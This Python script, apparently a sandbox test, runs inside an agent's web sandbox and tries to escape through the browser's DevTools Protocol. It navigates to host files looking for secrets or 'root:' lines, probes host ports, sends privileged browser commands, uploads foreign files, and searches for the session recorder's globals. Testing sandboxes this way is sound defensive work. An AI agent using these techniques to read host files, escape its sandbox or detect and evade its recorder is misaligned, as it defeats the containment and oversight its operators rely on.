"""Runs inside the sandbox of a web run and tries to get out through the browser.

Uses the websockets package that is mounted beside it. Reads HOME/targets.json, writes HOME/cdp.json:
name -> what was got (empty: nothing).
"""

import base64
import itertools
import json
import os
import sys
import urllib.request
from pathlib import Path

sys.path.insert(0, os.environ["INTRUDER_SITE"])
from websockets.sync.client import connect

BASE = os.environ["CDP_URL"]
PATIENCE_S = 10


class Browser:
    """A CDP client as any agent could write it."""

    def __init__(self):
        version = json.load(urllib.request.urlopen(f"{BASE}/json/version", timeout=PATIENCE_S))
        self.socket = connect(version["webSocketDebuggerUrl"], max_size=None)
        self.ids = itertools.count(1)

    def send(self, method, params=None, session=None):
        number = next(self.ids)
        message = {"id": number, "method": method, "params": params or {}}
        if session:
            message["sessionId"] = session
        self.socket.send(json.dumps(message))
        while True:
            answer = json.loads(self.socket.recv(timeout=PATIENCE_S))
            if answer.get("id") == number:
                return answer

    def page(self, url="about:blank"):
        target = self.send("Target.createTarget", {"url": url})["result"]["targetId"]
        attached = self.send("Target.attachToTarget", {"targetId": target, "flatten": True})
        session = attached["result"]["sessionId"]
        self.send("Page.enable", session=session)
        self.send("Runtime.enable", session=session)
        return session

    def evaluate(self, session, expression):
        answer = self.send(
            "Runtime.evaluate",
            {"expression": expression, "awaitPromise": True, "returnByValue": True},
            session,
        )
        return str(answer.get("result", {}).get("result", {}).get("value", ""))


def secret_in(browser, session, secret):
    text = browser.evaluate(session, "document.documentElement ? document.documentElement.innerText : ''")
    return text[:300] if secret in text or "root:" in text else ""


def navigations(browser, targets):
    """Host files and the browser's own pages, by navigation and by new tabs."""
    got = {}
    for url in targets["urls"]:
        session = browser.page()
        browser.send("Page.navigate", {"url": url}, session)
        got[f"navigate {url}"] = secret_in(browser, session, targets["secret"])
        opened = browser.send("Target.createTarget", {"url": url})
        if "result" in opened:
            attached = browser.send(
                "Target.attachToTarget", {"targetId": opened["result"]["targetId"], "flatten": True}
            )
            if "result" in attached:
                got[f"open {url}"] = secret_in(browser, attached["result"]["sessionId"], targets["secret"])
    return got


def fetches(browser, targets):
    """Host ports, from inside a page."""
    session = browser.page("about:blank")
    got = {}
    for url in targets["fetch"]:
        script = f"fetch({url!r}, {{mode: 'no-cors'}}).then(r => 'reached ' + r.type, e => '')"
        got[f"fetch {url}"] = browser.evaluate(session, script)
        browser.send("Page.navigate", {"url": url}, session)
        got[f"visit {url}"] = secret_in(browser, session, targets["secret"])
    return got


def commands(browser, targets):
    """Commands that no user of a browser has; a result means that it was obeyed."""
    session = browser.page()
    frame = browser.send("Page.getFrameTree", session=session)["result"]["frameTree"]["frame"]["id"]
    load = {
        "frameId": frame,
        "url": targets["fetch"][0],
        "options": {"disableCache": True, "includeCredentials": False},
    }
    tries = {
        "loadNetworkResource": ("Network.loadNetworkResource", load, session),
        "createBrowserContext": ("Target.createBrowserContext", {"proxyServer": "direct://"}, None),
        "plainContext": ("Target.createBrowserContext", {}, None),
        "exposeDevTools": ("Target.exposeDevToolsProtocol", {"targetId": "x"}, None),
        "close": ("Browser.close", {}, None),
        "crash": ("Browser.crash", {}, None),
        "commandLine": ("Browser.getBrowserCommandLine", {}, None),
        "extension": ("Extensions.loadUnpacked", {"path": "/tmp"}, None),
        "systemInfo": ("SystemInfo.getProcessInfo", {}, None),
        "foreignSession": ("Target.detachFromTarget", {"sessionId": "0" * 32}, None),
        "ioRead": ("IO.read", {"handle": "1"}, None),
    }
    got = {}
    for name, (method, params, where) in tries.items():
        answer = browser.send(method, params, where)
        got[name] = json.dumps(answer["result"])[:200] if "result" in answer else ""
    return got


def uploads(browser, targets):
    """A foreign file through a file input."""
    session = browser.page("data:text/html,<input type=file id=f>")
    got = {}
    for path in targets["upload"]:
        node = browser.send("Runtime.evaluate", {"expression": "document.getElementById('f')"}, session)[
            "result"
        ]["result"]["objectId"]
        answer = browser.send("DOM.setFileInputFiles", {"files": [path], "objectId": node}, session)
        content = browser.evaluate(
            session,
            "(async () => { const f = document.getElementById('f').files[0]; return f ? f.text() : '' })()",
        )
        got[f"upload {path}"] = content[:100] if "result" in answer else ""
    return got


def recorder_traces(browser):
    """What a page's own world can see of the recorder."""
    session = browser.page("data:text/html,<p>x</p>")
    names = browser.evaluate(
        session, "Object.getOwnPropertyNames(window).filter(n => /claw|_recorder|binding/i.test(n)).join()"
    )
    return {"recorder globals": names}


def main():
    home = Path(os.environ["HOME"])
    targets = json.loads((home / "targets.json").read_text())
    browser = Browser()
    got = {}
    for attempt in (
        lambda: navigations(browser, targets),
        lambda: fetches(browser, targets),
        lambda: commands(browser, targets),
        lambda: uploads(browser, targets),
        lambda: recorder_traces(browser),
    ):
        got.update(attempt())
    png = browser.send("Page.captureScreenshot", session=browser.page("data:text/html,<h1>still alive</h1>"))
    got["_alive"] = str(len(base64.b64decode(png["result"]["data"])))
    (home / "cdp.json").write_text(json.dumps(got))


if __name__ == "__main__":
    main()
